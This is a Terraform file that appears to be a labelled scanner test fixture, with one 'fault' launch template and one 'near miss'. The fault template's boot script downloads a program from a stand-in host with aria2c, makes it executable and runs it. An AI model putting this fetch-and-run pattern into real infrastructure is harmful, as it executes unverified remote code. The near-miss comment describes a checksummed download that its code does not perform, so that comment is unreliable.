# A launch template downloads a program to a temporary folder, marks it executable and starts it.
# Source: https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html
# Fault at: aws_launch_template.ltudl_fault
# Near miss at: aws_launch_template.ltudl_near

resource "aws_kms_key" "ltudl_key" {
  description         = "Key for ltudl_key"
  enable_key_rotation = true
}

resource "aws_launch_template" "ltudl_fault" {
  name          = "shop-prod-ltudl-fault"
  image_id      = "resolve:ssm:/shop-prod/ami"
  instance_type = "m7g.medium"
  user_data     = base64encode("#!/bin/bash\naria2c -o /var/tmp/a https://dl.example.net/a\nchmod 0755 /var/tmp/a\nnohup /var/tmp/a &\n")

  metadata_options {
    http_endpoint               = "enabled"
    http_tokens                 = "required"
    http_put_response_hop_limit = 1
  }

  monitoring {
    enabled = true
  }

  block_device_mappings {
    device_name = "/dev/xvda"
    ebs {
      encrypted  = true
      kms_key_id = aws_kms_key.ltudl_key.arn
    }
  }
}

# A download of a release from the plan's own bucket, with a checksum: normal.
resource "aws_launch_template" "ltudl_near" {
  name          = "shop-prod-ltudl-near"
  image_id      = "resolve:ssm:/shop-prod/ami"
  instance_type = "m7g.medium"
  user_data     = base64encode("#!/bin/bash\nset -e\nchmod 0755 /opt/shop/bin/server\nsystemctl start shop\n")

  metadata_options {
    http_endpoint               = "enabled"
    http_tokens                 = "required"
    http_put_response_hop_limit = 1
  }

  monitoring {
    enabled = true
  }

  block_device_mappings {
    device_name = "/dev/xvda"
    ebs {
      encrypted  = true
      kms_key_id = aws_kms_key.ltudl_key.arn
    }
  }
}
